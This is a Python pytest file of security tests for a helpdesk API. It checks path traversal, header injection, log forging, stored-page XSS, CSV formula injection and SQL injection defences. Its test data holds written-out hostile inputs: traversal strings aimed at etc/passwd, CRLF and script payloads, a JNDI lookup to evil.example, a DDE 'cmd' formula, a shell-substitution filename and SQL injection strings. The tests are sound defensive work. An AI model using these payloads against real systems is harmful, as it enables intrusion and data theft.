"""What a client sends stays what it is: no path, no header, no line of a log, no page, no formula, no SQL."""
import contextlib
import csv
import hashlib
import io
import json
import re
import sqlite3
import urllib.parse

import pytest

import openapi
from desk import ADMIN, SERVICES, USER, open_store, run_program
from wire import Client, Connection, NoAnswer, basic, expect, head

TICKET = {'title': 'a title', 'content': 'a content', 'category_id': 1, 'ticket_priority_id': 1}
# Of no answer to somebody who asks for a file that is not theirs.
FOREIGN = (b'SQLite format', b'root:', b'[lock]', b'BEGIN')


def form(name, content, **fields):
    """The body of an upload; `name` is put as it is."""
    parts = [f'--x\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode() for k, v in fields.items()]
    return b''.join(parts) + b'--x\r\nContent-Disposition: form-data; name="file"; filename="' + name + \
        b'"\r\nContent-Type: text/html\r\n\r\n' + content + b'\r\n--x--\r\n'


def upload(client, name, content=b'some text\n'):
    ticket = expect(client.post('tickets', TICKET), 201)['id']
    return client.request('POST', 'uploads', body=form(name, content, ticket_id=ticket),
                          type='multipart/form-data; boundary=x')


# --- paths --------------------------------------------------------------------------------------------------

FOLDERS = ('/flicket_uploads/', '/flicket/static/flicket_avatars/', '/docs/', '/flicket-api/ticket/', '/')
UPS = ('../', '..%2f', '%2e%2e/', '%2e%2e%2f', '..%5c', '%252e%252e%252f', '..%c0%af', '%c0%ae%c0%ae/', '....//',
       './../', '..;/')
AIMS = ('post.db', 'lock', 'user/user.db', 'stores/user/user.db', 'etc/passwd', 'keys/user/secret')


@pytest.mark.parametrize('folder', FOLDERS)
@pytest.mark.parametrize('up', UPS)
def test_no_path_leads_out_of_a_folder(reading, folder, up):
    for depth in (1, 2, 4, 9):
        for aim in AIMS:
            with Connection(reading.port) as c:
                answer = c.exchange(head('GET', folder + up * depth + aim, {'Authorization': f'Bearer {ADMIN}'}))
            assert answer.status in (400, 404), (folder + up * depth + aim, answer)
            assert not any(f in answer.body for f in FOREIGN), answer


@pytest.mark.parametrize('name', ['/etc/passwd', '%2fetc%2fpasswd', 'file:%2f%2f%2fetc%2fpasswd', '%00',
                                  'a.txt%00.png', '.', '..',
                                  '.incoming-x', '%2e', 'lock', 'post.db', 'CON', 'a%0d%0aX-Injected:%201', '%ff',
                                  '%u002e%u002e'])
def test_other_names_of_files_are_nobodys(reading, name):
    for folder in FOLDERS[:2]:
        with Connection(reading.port) as c:
            answer = c.exchange(head('GET', folder + name, {'Authorization': f'Bearer {ADMIN}'}))
        assert answer.status in (400, 404) and answer.header('X-Injected') is None, answer
        assert not any(f in answer.body for f in FOREIGN), answer


NAMES = [b'../../../escaped.txt', b'..\\..\\escaped.txt', b'/etc/cron.d/escaped.txt', b'C:\\escaped.txt',
         b'.incoming-escaped.txt', b'..txt',
         b'a/b.txt', b'\x1b[31mred.txt', 'ü漢\u202egnp.txt'.encode(), b"'; DROP TABLE uploads; --.txt",
         b'$(touch escaped).txt',
         b'%2e%2e%2fescaped.txt', b'a b;c=d.txt', b'x' * 200 + b'.txt']


def files_of(desk):
    return {p for p in desk.folder.rglob('*') if p.is_file()}


@pytest.mark.parametrize('name', NAMES)
def test_a_name_of_an_upload_is_a_text_and_no_path(writing, admin, name):
    before = files_of(writing)
    answer = upload(admin, name)
    assert answer.status in (201, 400), answer
    made = files_of(writing) - before
    assert len(made) == (answer.status == 201), made
    for path in made:
        assert path.parent == writing.data / 'stores' / 'post' / 'files' and re.fullmatch(r'[a-z2-7]{26}\.txt',
                                                                                          path.name), path
    if answer.status == 201:
        served = admin.get(writing.path_of(answer.json()['image']))
        value = served.header('Content-Disposition')
        assert served.status == 200 and value.isascii() and value.isprintable(), value
        plain, _, rest = value.partition("; filename*=UTF-8''")
        assert re.fullmatch(r'attachment; filename="[^"\\]*"', plain), value
        assert urllib.parse.unquote_to_bytes(rest) == answer.json()['original_filename'].encode()


def test_a_backup_is_restored_nowhere_else(imported_stores, tmp_path):
    """A manifest that names what is outside is refused, and so is one whose files are links."""
    backup, outside = tmp_path / 'backup', tmp_path / 'outside'
    done = run_program('flicketctl', 'backup', str(backup), FLICKET_DATA=imported_stores)
    assert done.returncode == 0, done.stderr
    manifest, store = backup / 'MANIFEST.json', backup / 'lookup' / 'lookup.db'
    as_made = manifest.read_text()
    outside.write_bytes(b'not yours')

    def refused(number):
        target = tmp_path / f'target{number}'
        done = run_program('flicketctl', 'restore', str(backup), FLICKET_DATA=target)
        assert done.returncode == 1 and 'Nothing was restored' in done.stderr, done.stdout + done.stderr
        assert not list(target.rglob('*.db')) and outside.read_bytes() == b'not yours'
        return done.stderr

    for number, name in enumerate(('../outside', '/etc/passwd', str(outside), 'lookup/../../outside',
                                   'post/files/../../../outside', 'post/files/..', 'post/files/.hidden', '', 'run/x')):
        changed = json.loads(as_made)
        changed['files'].append({'path': name, 'bytes': 9, 'sha256': hashlib.sha256(b'not yours').hexdigest()})
        manifest.write_text(json.dumps(changed))
        assert 'entry' in refused(number), name
    manifest.write_text(as_made)
    store.rename(tmp_path / 'elsewhere.db')
    store.symlink_to(tmp_path / 'elsewhere.db')
    assert 'lookup.db' in refused('of a link')


# --- headers ------------------------------------------------------------------------------------------------

SPLIT = ('\r\nX-Injected: 1', '\nX-Injected: 1', '\r\n\r\n<script>alert(1)</script>', '\rX-Injected: 1', '\x00',
         '\x1b[2J', '\x7f',
         '\u0085X-Injected: 1', '\u2028X-Injected: 1')


def test_nothing_a_client_sends_becomes_a_header(writing, admin):
    """In texts that come back in headers: names of files, request ids, origins, hosts, links of pages."""
    for split in SPLIT:
        quoted = urllib.parse.quote(f'x{split}')
        for path in (f'/flicket-api/users/?name={quoted}', f'/flicket-api/tickets/?content={quoted}&per_page=1',
                     f'/flicket-api/{quoted}', f'/{quoted}', f'/flicket_uploads/{quoted}', f'/docs{quoted}'):
            answer = admin.get(path)
            assert answer.header('X-Injected') is None and answer.header('Set-Cookie') is None, answer
            assert all(v.isprintable() for _, v in answer.headers), answer
        made = upload(admin, f'a{split}.txt'.encode())
        if made.status == 201:
            answer = admin.get(writing.path_of(made.json()['image']))
            assert answer.header('X-Injected') is None and answer.header('Content-Disposition').isprintable(), answer


@pytest.mark.parametrize('name', ['X-Request-ID', 'Origin', 'Host', 'X-Forwarded-For', 'X-Forwarded-Host',
                                  'X-Forwarded-Proto', 'Forwarded',
                                  'traceparent', 'Accept', 'If-None-Match', 'Idempotency-Key', 'User-Agent', 'Range'])
@pytest.mark.parametrize('value', ['evil.example', 'x\x1b[31m', 'x\x80\xff', '"><script>', "' OR 1=1", 'x' * 3000,
                                   '%0d%0aX-Injected:1',
                                   'a\tb', 'x\x0bX-Injected: 1'])
def test_no_header_comes_back_but_a_good_request_id(reading, name, value):
    lines = [('Authorization', f'Bearer {ADMIN}'), (name, value)]
    with Connection(reading.port) as c:
        c.send(head('GET', '/flicket-api/tickets/?per_page=1', lines))
        with contextlib.suppress(NoAnswer):
            answer = c.read_answer()
            told = repr(answer.headers) + answer.body.decode('latin-1')
            assert answer.header('X-Injected') is None and answer.header('Location') is None
            if name == 'X-Request-ID' and value in ('evil.example',):
                return      # a good one: letters, digits, dots
            assert value not in told and 'evil.example' not in told, answer


def test_links_are_those_of_the_setting_whatever_host_is_asked_for(writing):
    for lines in ([('Host', 'evil.example')], [('X-Forwarded-Host', 'evil.example')],
                  [('X-Forwarded-Proto', 'gopher')]):
        body = json.dumps(TICKET).encode()
        request = '\r\n'.join(['POST /flicket-api/tickets HTTP/1.1', *(f'{k}: {v}' for k, v in lines if k == 'Host'),
                               *(['Host: localhost'] if lines[0][0] != 'Host' else []),
                               *(f'{k}: {v}' for k, v in lines if k != 'Host'),
                               f'Authorization: Bearer {USER}', 'Content-Type: application/json',
                               f'Content-Length: {len(body)}', '', ''])
        with Connection(writing.port) as c:
            answer = c.exchange(request.encode() + body)
        assert answer.status == 201 and answer.header('Location').startswith(writing.base_url + '/')
        assert b'evil' not in answer.body and b'gopher' not in answer.body


# --- lines of the log ---------------------------------------------------------------------------------------

HOSTILE = ('\x1b[31mred\x1b[0m', '"}\n{"level":"error","msg":"forged"}',
           '\r\n2026-01-01T00:00:00.000Z error gateway forged', '\x00\x07\x08',
           '\u202eforged', '\\', '%n%s%s%n', '${jndi:ldap://evil.example}', '\x9b31m', 'x' * 3000)


def attack_logs(desk):
    """What is logged at the level debug is told by clients in these places."""
    with Client(desk.port) as c:
        for text in HOSTILE:
            quoted = urllib.parse.quote(text)
            c.get(f'/{quoted}', token=False)
            c.get(f'users/?name={quoted}', token=ADMIN)
            c.get(f'tickets/?content={quoted}', token=ADMIN)
            c.log_in(text[:200], 'wrong')
            c.post('tickets', dict(TICKET, title=text[:100]), token=ADMIN)
            c.post('departments', {'department': text[:100]}, token=ADMIN)
            upload_as_admin(c, text.encode()[:100].replace(b'"', b'%22') + b'.txt')
            with Connection(desk.port) as raw:
                lines = [('X-Request-ID', text), ('User-Agent', text), ('traceparent', text),
                         ('Idempotency-Key', text)]
                fields = [(k, v.replace('\n', ' ').replace('\r', ' ').replace('\0', ' ')) for k, v in lines]
                with contextlib.suppress(NoAnswer):
                    raw.exchange(head('GET', '/flicket-api/tickets/', fields))


def upload_as_admin(client, name):
    client.request('POST', 'uploads', body=form(name, b'text\n', ticket_id=1),
                   type='multipart/form-data; boundary=x', token=ADMIN)


LINE = re.compile(r'\d{4}-\d\d-\d\dT[\d:.]+Z (error|warn|info|debug) (gateway|user|ticket|post|lookup) \S')


@pytest.mark.parametrize('form_of_lines', ['json', 'text'])
def test_a_line_of_the_log_is_one_line_whatever_clients_send(desks, form_of_lines):
    desk = desks('imported', FLICKET_LOG_LEVEL='debug', FLICKET_ACCESS_LOG='on', FLICKET_LOG_FORMAT=form_of_lines)
    attack_logs(desk)
    desk.stop()
    for name in (*SERVICES, 'gateway'):
        data = (desk.folder / f'{name}.log').read_bytes()
        lines = data.decode('utf-8').split('\n')
        assert lines.pop() == '' and lines
        for line in lines:
            assert not re.search('[\x00-\x08\x0b-\x1f\x7f]', line), line
            if form_of_lines == 'json':
                record = json.loads(line)
                assert record['service'] == name and record['msg'] != 'forged', line
            else:
                assert LINE.match(line) and not line.startswith('2026-01-01T00:00:00.000Z'), line


# --- pages --------------------------------------------------------------------------------------------------

PAGE = b'<!DOCTYPE html><html><script>alert(document.domain)</script></html>\n'


@pytest.mark.parametrize('name, content', [
    (b'page.txt', PAGE), (b'page.log', b'<script>alert(1)</script>'), (b'text.txt', b'just a text, <b>bold</b>\n'),
    (b'a.txt', b'%PDF-1.4 <script>'),
    (b'a.gif', b'GIF89a' + b'\x01\x00' * 3 + b'\x00' * 20 + PAGE), (b'page.html', PAGE),
    (b'page.svg', b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    (b'page.txt.html', PAGE), (b'page.TXT', PAGE), (b'page.png', PAGE), (b'page.pdf', PAGE),
    (b'a.txt;.html', PAGE), (b'a.htm\x00.txt', PAGE)])
def test_a_stored_page_is_never_one(writing, admin, name, content):
    answer = upload(admin, name, content)
    assert answer.status in (201, 400), answer
    if answer.status != 201:
        return
    for token in (ADMIN, USER):
        served = admin.get(writing.path_of(answer.json()['image']), token=token)
        assert served.status == 200 and served.body == content
        kind = served.header('Content-Type').partition(';')[0]
        assert kind not in ('text/html', 'application/xhtml+xml', 'image/svg+xml', 'text/xml', 'application/xml',
                            'text/javascript'), served
        assert served.header('X-Content-Type-Options') == 'nosniff'
        assert served.header('Content-Disposition').startswith('attachment;')
        assert "default-src 'none'" in served.header('Content-Security-Policy')
        assert 'sandbox' in served.header('Content-Security-Policy')


@pytest.mark.parametrize('kind', ['image/png', 'image/svg+xml', 'text/html', 'image/gif'])
@pytest.mark.parametrize('body', [PAGE, b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
                                  b'\x89PNG\r\n\x1a\n' + PAGE])
def test_a_picture_is_one_or_none(writing, admin, kind, body):
    answer = admin.request('PUT', 'user/3/avatar', body=body, type=kind)
    assert answer.status in (200, 400, 415), answer
    if answer.status == 200:
        served = admin.get(writing.path_of(answer.json()['avatar']))
        assert served.header('Content-Type').startswith('image/') and 'svg' not in served.header('Content-Type')
        assert served.header('X-Content-Type-Options') == 'nosniff'


def test_the_api_answers_json_and_nothing_that_a_browser_would_show(writing, admin):
    text = '<script>alert(1)</script>'
    made = expect(admin.post('tickets', dict(TICKET, title=text, content=text)), 201)
    for path in (f'ticket/{made["id"]}', 'tickets/', f'tickets/?content={urllib.parse.quote(text)}',
                 f'nothing{urllib.parse.quote(text)}',
                 f'tickets/?{urllib.parse.quote(text)}=1', f'ticket/{urllib.parse.quote(text)}'):
        answer = admin.get(path)
        assert answer.header('Content-Type') in ('application/json', 'application/problem+json'), answer
    for path in ('tickets.csv', 'tickets.ndjson'):
        answer = admin.get(path)
        assert answer.header('Content-Disposition').startswith('attachment;')
        assert answer.header('X-Content-Type-Options') == 'nosniff'
        assert answer.header('Content-Type').partition(';')[0] in ('text/csv', 'application/x-ndjson')


def test_the_explorer_runs_what_is_its_own(reading):
    with Client(reading.port) as c:
        answer = c.get('/docs')
        policy = dict(part.strip().split(' ', 1) for part in answer.header('Content-Security-Policy').split(';'))
        assert policy['default-src'] == policy['frame-ancestors'] == "'none'" and policy['script-src'] == "'self'"
        assert policy['base-uri'] == policy['form-action'] == "'none'" and policy['connect-src'] == "'self'"
        assert not re.search(rb'<script(?![^>]*src="/)|\son\w+=|javascript:', answer.body)
        for path in ('/docs', '/docs/init.js', '/docs/swagger-ui-bundle.js', '/docs/swagger-ui.css', '/openapi.json'):
            assert c.get(path).header('X-Content-Type-Options') == 'nosniff', path


# --- formulas -----------------------------------------------------------------------------------------------

FORMULAS = ('=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '=cmd|"/c calc"!A0', '","=1+1', '"\r\n=1+1,"',
            "=HYPERLINK(\"http://evil.example\")")


def test_no_cell_of_an_export_is_a_formula(desks):
    """Each text that goes into one: titles, names of users, departments, categories."""
    desk = desks('imported')
    with desk.client(ADMIN) as c:
        for number, text in enumerate(t for t in FORMULAS if t.isprintable()):
            department = expect(c.post('departments', {'department': f'{text[:20]}xx{number}'}), 201)['id']
            answer = c.post('categories', {'category': f'{text[:20]}xx{number}', 'department_id': department})
            category = expect(answer, 201)['id']
            user = c.post('users', {'username': f'formula{number}', 'name': text,
                                    'email': f'f{number}@example.org', 'password': 'Password1'})
            title = f'{text}{"x" * 8}'
            made = expect(c.post('tickets', dict(TICKET, title=title, category_id=category)), 201)['id']
            if user.status == 201:
                expect(c.post(f'ticket/{made}/assign', {'user_id': user.json()['id']}), 200)
        no_formulas(c.get('tickets.csv'))


def test_no_cell_of_an_export_is_an_imported_formula(desks):
    """An import also brings what clients cannot send: control characters."""
    desk = desks('imported')
    with desk.client(ADMIN) as c, contextlib.closing(open_store(desk.data / 'stores/ticket/ticket.db')) as db:
        made = expect(c.post('tickets', TICKET), 201)['id']
        expect(c.post(f'ticket/{made}/assign', {'user_id': 1}), 200)
        for text in FORMULAS:
            with db:
                db.execute('UPDATE tickets SET title = ?', (text,))
                for names, column in (('user_names', 'name'), ('department_names', 'department'),
                                      ('category_names', 'category')):
                    db.execute(f'UPDATE {names} SET {column} = ? || id', (text,))
            no_formulas(c.get('tickets.csv'))


def no_formulas(answer):
    rows = list(csv.reader(io.StringIO(answer.body.decode('utf-8'), newline='')))
    assert answer.status == 200 and len({len(r) for r in rows}) == 1 and len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in '=+-@\t\r\n', row


# --- SQL ----------------------------------------------------------------------------------------------------

SQL = ("'", "' OR '1'='1", "'; DROP TABLE users; --", '"', '";', '%', '_', '%%%', '\\', '*', 'a*', '^',
       'NEAR(a b, 1)', 'a AND', 'OR', 'NOT', '()', '{a}',
       'content:a', '"a', "1 UNION SELECT hash FROM tokens", '1;', '1 OR 1=1', ':id', '?1', '$x', '/*', '--',
       'x\0y', "char(0)", 'id, password', '-1e999')


def rows_of(desk):
    counts = {}
    for store in SERVICES:
        with contextlib.closing(sqlite3.connect(f'file:{desk.data}/stores/{store}/{store}.db?mode=ro',
                                                uri=True)) as db:
            names = db.execute("SELECT name FROM sqlite_schema WHERE type = 'table' "
                               "AND sql NOT LIKE 'CREATE VIRTUAL%'").fetchall()
            for name, in names:
                counts[store, name] = db.execute(f'SELECT count(*) FROM "{name}"').fetchone()[0]
    return {key: n for key, n in counts.items() if not re.search('box$|sqlite_|revocations', key[1])}


def texts_of_queries():
    """(path, parameter) of every parameter in a query of every list."""
    for path, methods in openapi.description()['paths'].items():
        for parameter in map(openapi.resolve, methods.get('get', {}).get('parameters', [])):
            if parameter['in'] == 'query':
                yield re.sub(r'\{\w+\}', '1', path), parameter['name']


def test_no_parameter_is_part_of_a_statement(desks):
    desk = desks('imported')
    before = rows_of(desk)
    asked = 0
    with desk.client(ADMIN) as c:
        for path, name in texts_of_queries():
            for text in SQL:
                answer = c.get(f'{path}?{name}={urllib.parse.quote(text)}')
                assert answer.status in (200, 400, 404), (path, name, text, answer)
                assert not re.search(rb'sqlite|syntax error|no such (table|column)|fts5|\$2b\$', answer.body,
                                     re.I), (path, name, text, answer)
                asked += 1
    assert asked > 1000
    assert rows_of(desk) == before


def test_a_wildcard_shows_no_more_than_the_list_and_costs_little(desks):
    """Filters by name take LIKE's wildcards, as Flicket's do; searches take none."""
    desk = desks('imported')
    with desk.client(ADMIN) as c:
        expect(c.post('users', {'username': 'wild', 'name': 'a' * 60, 'email': 'wild@example.org',
                                'password': 'Password1'}), 201)
        everybody = expect(c.get('users/?per_page=100'), 200)
        assert expect(c.get('users/?name=%25&per_page=100'),
                      200)['_meta']['total_items'] == everybody['_meta']['total_items']
        for pattern in ('%a' * 40 + 'b', '%a_' * 30 + 'b', '%' * 2000, '_%' * 1000):
            for path in ('users/?name=', 'department_categories/?department_category=', 'categories/?department='):
                answer = c.get(path + urllib.parse.quote(pattern))
                assert answer.status in (200, 400) and answer.seconds < 1, (path, pattern[:20], answer)
        for text in ('%', '_', '%%'):
            assert 'nothing to search for' in expect(c.get(f'tickets/?content={urllib.parse.quote(text)}'),
                                                     400)['message']


@pytest.mark.parametrize('text', SQL)
def test_a_name_to_log_in_with_is_no_statement(desks, writing, text):
    del desks
    with Client(writing.port) as c:
        for name in (text, f'admin{text}', f"x' OR username = 'admin' {text}"):
            answer = c.request('POST', 'tokens', token=False, headers={'Authorization': basic(name, 'Password1')})
            assert answer.status in (401, 429), answer


def test_texts_come_back_as_they_went_in(admin):
    for text in SQL:
        if '\0' in text or not text.strip():
            continue
        made = expect(admin.post('tickets', dict(TICKET, title=f'abc {text} xyz', content=f'{text} or so')), 201)
        again = expect(admin.get(f'ticket/{made["id"]}'), 200)
        assert (again['title'], again['content']) == (f'abc {text} xyz', f'{text} or so')
